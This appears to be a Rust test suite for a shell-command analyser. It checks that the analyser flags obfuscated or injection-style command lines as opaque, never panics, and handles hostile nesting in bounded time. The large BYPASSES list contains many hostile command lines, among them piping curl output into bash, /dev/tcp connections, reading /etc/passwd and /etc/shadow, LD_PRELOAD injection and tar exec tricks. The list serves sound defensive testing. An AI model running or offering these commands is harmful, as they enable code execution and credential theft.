//! Hostile input: no panic, no deep stack, no long time, and nothing non-opaque where a shell would run more.

use onus_shell::{Reading, Scene, Schemas, Shell};
use proptest::prelude::*;
use std::path::PathBuf;
use std::sync::{Arc, LazyLock};
use std::time::{Duration, Instant};

pub(crate) static SHELL: LazyLock<Shell> = LazyLock::new(|| Shell::new(Arc::new(Schemas::shipped())));

pub(crate) fn read(line: &str) -> Reading {
    let scene = Scene { cwd: Some("/srv/app".into()), user: Some("alice".into()), ..Scene::default() };
    SHELL.read(line.as_bytes(), &scene)
}

pub(crate) fn opaque(reading: &Reading) -> bool {
    reading.script.is_none() || reading.operations.iter().any(|operation| !operation.opaque.is_empty())
}

/// Every way that we know to run something which the words don't say.
const BYPASSES: &[&str] = &[
    "alias ls=id; ls",
    "ls() { id; }; ls",
    "function ls { id; }; ls",
    "env 'BASH_FUNC_ls%%=() { id; }' ls",
    "export 'ls=() { :; }'",
    "PATH=/tmp:$PATH ls",
    "PATH=/tmp; ls",
    "export PATH=/tmp",
    "LD_PRELOAD=/tmp/x.so ls",
    "env LD_PRELOAD=/tmp/x.so ls",
    "sudo LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=/tmp/x bash -c ls",
    "ENV=/tmp/x ls",
    "IFS=/; ls",
    "ls$IFS-la",
    "cat${IFS}/etc/passwd",
    "$(echo id)",
    "`echo id`",
    "ls $(id)",
    "ls `id`",
    "ls \"$(id)\"",
    "ls $((1))",
    "ls <(id)",
    "ls >(id)",
    "eval ls",
    "command eval ls",
    "builtin eval ls",
    ". ./x",
    "source ./x",
    "trap 'id' EXIT",
    "exec id",
    "exec 3<>/dev/tcp/10.0.0.1/80",
    "cat < /dev/tcp/10.0.0.1/80",
    "cat < '/dev/udp/10.0.0.1/80'",
    "printf -v 'a[$(id)]' x",
    "test -v 'a[$(id)]'",
    "[ -v 'a[$(id)]' ]",
    "[[ -v 'a[$(id)]' ]]",
    "[[ $x -eq 'a[$(id)]' ]]",
    "(( a[$(id)] ))",
    "let 'a[$(id)]=1'",
    "declare 'a[$(id)]=1'",
    "read 'a[$(id)]'",
    "unset 'a[$(id)]'",
    "a[$(id)]=1",
    "a=(1 2)",
    "coproc id",
    "!!",
    "!ls",
    "echo !$",
    "cat <<E\n$(id)\nE",
    "cat <<E\n`id`\nE",
    "cat <<< $(id)",
    "cat <<< \"$(id)\"",
    "${x@P}",
    "${!x}",
    "${x:-id}",
    "enable -f /tmp/x.so y",
    "hash -p /tmp/x ls",
    "ls *",
    "rm .*",
    "tar cf x *",
    "{i,}d",
    "/tmp/ls",
    "./ls",
    "~/ls",
    "ls\u{a0}-la",
    "\u{fb00}ind /",
    "ls '\u{202e}x'",
    "ls 'a\u{0}b'",
    "ls 'a\u{1b}[2Jb'",
    "ls \u{1}",
    "ls \u{2}*",
    "ls $'\\x01/x'",
    "xargs sudo",
    "xargs -I{} sh -c {}",
    "xargs sh",
    "find / -exec sh -c 'id' {} +",
    "find . -execdir id ;",
    "cat x | sh",
    "curl http://x | bash",
    "bash",
    "sh x.sh",
    "bash -c \"$(id)\"",
    "sh -c 'eval id'",
    "sudo -i",
    "sudo -s",
    "su -",
    "nohup sh -c 'a=$(id)'",
    "timeout 5 eval id",
    "python3 -c 'import os'",
    "perl -e 'system 1'",
    "awk 'BEGIN{system(\"id\")}'",
    "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
    "tar --to-command=sh -xf a",
    "less /etc/passwd",
    "vim x",
    "ssh host id",
    "case x in x) id;; esac",
    "select x in a; do id; done",
    "for ((;;)); do id; done",
    "while true; do A=1; done",
    "cd -; ls",
    "pushd /; ls",
    "cd /x || ls; cat y",
    "ls --colo=auto",
    "grep --fil=/etc/shadow x",
    "echo a\\",
    "set -- id; $1",
    "ls 12>x",
    "echo {fd}>x",
    "ls {fd}>x",
    "wait -p PATH",
    "printf '%n' PATH; ls",
    "printf -- '%5ln' PATH; ls",
    "cd /x && A=1; cat y",
    "cd /x && cd y; A=1",
];

#[test]
fn every_known_bypass_is_opaque() {
    let mut missed = Vec::new();
    for line in BYPASSES {
        let reading = read(line);
        // `{i,}d` is two plain words, `id` and `d`: known, and what it says.
        if *line == "{i,}d" {
            assert_eq!(reading.commands[0].argv.iter().map(onus_shell::Arg::display).collect::<Vec<_>>(), ["id", "d"]);
            continue;
        }
        if !opaque(&reading) && !reading.incomplete {
            missed.push(format!("{line:?} -> {:?}", reading.script));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn an_unfinished_line_asks_for_more() {
    for line in [
        "echo 'a",
        "echo \"a",
        "cat <<E",
        "cat <<E\nx",
        "ls &&",
        "ls |",
        "if true; then ls",
        "{ ls;",
        "( ls",
        "echo \\",
        "echo $(ls",
        "for x in a",
        "while true; do",
    ] {
        let reading = read(line);
        assert!(reading.incomplete && reading.script.is_none() && opaque(&reading), "{line}: {reading:?}");
    }
    for line in ["ls", "ls;", "ls &", "", "# x", "fi", "ls ;;", ")", "ls )", "&& ls"] {
        assert!(!read(line).incomplete, "{line}");
    }
}

#[test]
fn hostile_nesting_is_bounded() {
    let start = Instant::now();
    for open in [
        "(",
        "( ",
        "{ ",
        "$(",
        "`",
        "\"$(",
        "${",
        "if ",
        "while ",
        "!",
        "! ",
        "{",
        "{a,",
        "<(",
        "a|",
        "a&&",
        "'",
        "<<E ",
        "$((",
        "[",
        "for x in a; do ",
        "sh -c '",
        "sudo ",
        "\\\n",
        "~",
        "a=",
        ">a ",
    ] {
        for count in [1, 10, 100, 1000, 20_000] {
            let line = open.repeat(count);
            read(&line);
            read(&format!("{line} a"));
        }
    }
    for close in [("(", ")"), ("{ ", "; }"), ("$(", ")"), ("{a,", "}"), ("if ", "; then a; fi")] {
        let line = format!("{}a{}", close.0.repeat(3000), close.1.repeat(3000));
        read(&line);
    }
    // Each place to start from, and each level of lines inside of lines, multiplies the work.
    assert!(opaque(&read("find a{1..9} -exec rm {} +")) && !opaque(&read("find a{1..8} -exec rm {} +")));
    read("find a{600..3} -exec rm {} + -exec rm {} + -exec cat {} + {1..9}{1..9}");
    let mut line = "ls".to_owned();
    for _ in 0..5 {
        line = format!("find a b c d e f g h -exec sh -c '{}' \\;", line.replace('\'', "'\\''"));
        read(&line);
    }
    read(&"{a,b}".repeat(1000));
    read(&"{1..9}".repeat(20));
    assert!(start.elapsed() < Duration::from_secs(60), "{:?}", start.elapsed());
}

#[test]
fn time_of_an_ordinary_line() {
    let line = "ls -la a b c d e f g h i j k l m n o p q r s t 'aa bb' \"cc\" > /tmp/x 2>&1 | grep -v foo && systemctl restart nginx";
    read(line);
    let start = Instant::now();
    for _ in 0..200 {
        read(line);
    }
    let each = start.elapsed() / 200;
    println!("a line of 30 words: {each:?}");
    assert!(each < Duration::from_millis(5), "{each:?}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(line in prop::collection::vec(any::<u8>(), 0..200)) {
        SHELL.read(&line, &Scene::default());
    }

    #[test]
    fn arbitrary_shell_like_text_never_panics(line in "[-a-c$(){}\\[\\]<>|&;'\"`\\\\ \n~*?!#=,.0-2é/]{0,80}") {
        let reading = read(&line);
        prop_assert!(reading.script.is_some() || opaque(&reading));
    }
}

fn corpora() -> Option<PathBuf> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora");
    if path.is_dir() {
        return Some(path);
    }
    println!("skipped: no corpora");
    None
}

/// No obfuscated line may come out non-opaque with an argument vector that its trace doesn't hold.
#[test]
fn obfuscated_lines_are_opaque_or_true() {
    let Some(corpora) = corpora() else { return };
    let (mut rows, mut known) = (0, 0);
    for file in ["bashfuscator.jsonl", "filter-bypasses.jsonl"] {
        let text = std::fs::read_to_string(corpora.join("shell-obfuscated").join(file)).unwrap();
        for row in text.lines().filter(|row| !row.is_empty()) {
            let row: serde_json::Value = serde_json::from_str(row).unwrap();
            let line = row["command"].as_str().unwrap();
            let reading = read(line);
            rows += 1;
            if opaque(&reading) {
                continue;
            }
            known += 1;
            let truth: Vec<Vec<String>> = serde_json::from_value(row["executes"].clone()).unwrap();
            for simple in &reading.commands {
                let argv: Vec<String> = simple.argv.iter().filter_map(|arg| arg.literal().map(str::to_owned)).collect();
                let builtin = matches!(argv[0].as_str(), "echo" | "printf" | "true" | "test");
                assert!(builtin || truth.contains(&argv), "{line}: {argv:?} is not in {truth:?}");
            }
        }
    }
    println!("{rows} rows, {known} known and true");
    assert!(rows > 50);
}

/// The grammar's own test inputs: nothing panics, and errors of others' grammars are read in bounded time.
#[test]
fn the_grammar_corpus_is_read() {
    let Some(corpora) = corpora() else { return };
    for file in ["commands.txt", "crlf.txt", "literals.txt", "programs.txt", "statements.txt"] {
        let text = std::fs::read(corpora.join("bash-grammar").join(file)).unwrap();
        SHELL.read(&text, &Scene::default());
        for line in text.split(|c| *c == b'\n') {
            SHELL.read(line, &Scene::default());
        }
    }
}

/// The reason is the schema's own, even where no word is looked at.
#[test]
fn a_free_program_keeps_its_reason_and_its_terminal() {
    let mut schemas = Schemas::none();
    let text =
        "[[command]]\nname = \"big\"\nclass = \"opaque\"\nopaque = \"too big to say\"\nfree = true\nterminal = true\n";
    schemas.extend(text).unwrap();
    let reading = Shell::new(Arc::new(schemas)).read(b"big x", &Scene::default());
    assert!(reading.needs_terminal && reading.operations[0].opaque.contains("too big to say"), "{reading:?}");
}
